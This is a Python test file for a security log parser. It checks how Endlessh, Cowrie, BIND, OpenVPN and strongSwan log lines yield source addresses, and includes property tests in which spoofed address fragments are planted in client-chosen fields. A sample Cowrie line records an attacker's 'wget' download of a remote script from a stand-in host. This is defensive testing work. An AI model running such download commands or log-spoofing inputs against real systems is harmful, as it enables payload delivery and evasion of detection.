"""Honeypots (Endlessh, Cowrie), BIND 9 and VPN servers (OpenVPN, strongSwan charon), in syslog and in their own
log files. Real lines from the CrowdSec hub test cases (MIT, crowdsecurity/hub; case named at each use); property
tests plant addresses in every field the client chooses (query names, credentials, identities, common names)."""

from __future__ import annotations

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.hub_cases import case_text, parse, parse_all

PLANTED = st.lists(st.sampled_from(list("ab/:.' #@[]()=\\\"") + [" from 192.0.2.10 port 22", "192.0.2.10#53",
                                                                  " host=192.0.2.10 ", "192.0.2.10:1194 ",
                                                                  "rhost=192.0.2.10", ",192.0.2.10]"]),
                   max_size=12).map("".join)


def test_endlessh_own_file_and_syslog() -> None:
    # CrowdSec hub test cases endlessh-logs (own file) and endlessh-syslogs (MIT).
    own = parse_all(case_text("endlessh-logs"))
    accepts = [e for e in own if e.get("action") == "honeypot_connect"]
    assert len(accepts) == 53 and {e["format"] for e in accepts} == {"endlessh"}
    assert accepts[-1]["app"] == "endlessh-go" and accepts[-1]["src_ip"] == "192.168.121.1"  # glog lines
    assert accepts[0]["src_ip"] == "193.142.146.42"  # ::ffff:-mapped, written as the IPv4 client it is
    assert any(e["src_ip"] == "2001:db8:85a3:8d3:1319:8a2e:370:7348" for e in accepts)
    closes = [e for e in own if e.get("action") == "honeypot_disconnect"]
    assert closes[0]["fields"]["seconds"] == 20.017
    sl = parse_all(case_text("endlessh-syslogs"))
    assert {(e["service"], e["action"], e["src_ip"]) for e in sl if e["action"] == "honeypot_connect"} == {
        ("endlessh", "honeypot_connect", "124.222.66.99"), ("endlessh", "honeypot_connect", "65.49.1.109")}


def test_cowrie_lines() -> None:
    # CrowdSec hub test case cowrie_telnet-bf (MIT), then cowrie.log lines of the shape Twisted writes.
    ev = parse(case_text("cowrie_telnet-bf")[0])
    assert (ev["service"], ev["action"], ev["src_ip"], ev["fields"]["protocol"]) == (
        "cowrie", "honeypot_connect", "1.1.1.1", "ssh")
    login = parse("Dec  8 06:28:46 h cowrie[2806]: 2020-12-08T06:28:46+0000 [HoneyPotSSHTransport,3,1.1.1.1] "
                  "login attempt [b'root'/b'123456'] failed")
    assert (login["action"], login["src_ip"], login["user"]) == ("honeypot_login", "1.1.1.1", "root")
    cmd = parse("Dec  8 06:28:47 h cowrie[2806]: 2020-12-08T06:28:47+0000 [HoneyPotSSHTransport,3,1.1.1.1] "
                "CMD: wget http://192.0.2.10/x.sh")
    assert (cmd["action"], cmd["src_ip"]) == ("honeypot_command", "1.1.1.1")


def test_bind_channel_file_and_syslog() -> None:
    # CrowdSec hub test cases bind9-refused (own channel file) and bind9-syslog (MIT).
    evs = parse_all(case_text("bind9-refused"))
    assert {e["format"] for e in evs} == {"bind"}
    first = evs[0]
    assert (first["service"], first["action"], first["src_ip"], first["fields"]["request"]) == (
        "bind", "dns_denied", "104.219.136.31", "query")
    assert evs[1]["fields"]["request"] == "axfr"
    sec = parse("06-Feb-2025 10:32:43.895 security: info: client @0x7fcb602f4168 192.168.1.1#44717 (wr_test): "
                "query (cache) 'wr_test/A/IN' denied (allow-query-cache did not match)")
    assert (sec["action"], sec["src_ip"]) == ("dns_denied", "192.168.1.1")
    sl = [e for e in parse_all(case_text("bind9-syslog")) if e.get("src_ip")]
    assert sl and {e["service"] for e in sl} == {"bind"}


def test_openvpn_file_and_classic_time() -> None:
    # CrowdSec hub test case openvpn-bf (MIT).
    evs = parse_all(case_text("openvpn-bf"))
    assert {(e["format"], e["service"], e["action"], e["src_ip"]) for e in evs} == {
        ("openvpn", "openvpn", "tls_failure", "192.168.1.31")}
    classic = parse("Sun Dec 15 14:12:12 2024 alice/203.0.113.9:51000 VERIFY ERROR: depth=0, error=certificate "
                    "has expired: CN=alice")
    assert (classic["action"], classic["src_ip"], classic["user"]) == ("login_failed", "203.0.113.9", "alice")
    # Other `timestamp text` logs are not claimed as OpenVPN's.
    assert parse("2024-12-15 14:12:12 starting worker 3").get("format") != "openvpn"


def test_charon_failures_take_the_peer_of_their_ike_sa() -> None:
    # CrowdSec hub test case charon-ipsec-bf (MIT).
    evs = parse_all(case_text("charon-ipsec-bf"))
    failed = [e for e in evs if e.get("action") == "login_failed"]
    # One failure is logged before any packet of its IKE_SA: it names no peer rather than a guessed one.
    assert {e.get("src_ip") for e in failed} - {None} == {"116.178.2.170"}
    assert sum(1 for e in failed if e.get("src_ip")) >= len(failed) - 1


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(name=PLANTED)
def test_client_text_never_supplies_the_address(name: str) -> None:
    lines = [
        f"19-Oct-2022 05:34:02.425 client @0x7f65100ee4d8 198.51.100.7#3076 ({name}): query '{name}/A/IN' denied",
        f"2024-12-15 14:12:12 {name.replace(' ', '_') or 'x'}/198.51.100.7:45321 VERIFY ERROR: depth=0, CN={name}",
        f"Dec  8 06:28:46 h cowrie[1]: 2020-12-08T06:28:46+0000 [HoneyPotSSHTransport,3,198.51.100.7] "
        f"login attempt [b'{name}'/b'{name}'] failed",
    ]
    for line in lines:
        ev = parse(line)
        assert ev.get("src_ip") in (None, "198.51.100.7"), (line, ev)
    # A query name alone, without BIND's client prefix, is never a client.
    assert parse(f"19-Oct-2022 05:34:02.425 zone {name}: loaded serial 1").get("src_ip") is None


def test_every_address_the_hub_parsers_assert_for_these_services_is_found() -> None:
    from tests.hub_cases import parsed_lines

    cases = {"bind9-logs", "bind9-syslog", "charon-ipsec-logs", "endlessh-logs", "endlessh-syslogs",
             "fortinet-vpn-bf", "palo-alto-threat", "smb-logs", "dropbear-logs"}
    checked = 0
    for family in ("network", "ssh", "system"):
        for case, line_no, asserted, ev in parsed_lines(family):
            if case not in cases or asserted.get("source_ip") is None:
                continue
            checked += 1
            assert ev.get("src_ip") == asserted["source_ip"], (case, line_no, ev)
    assert checked >= 120
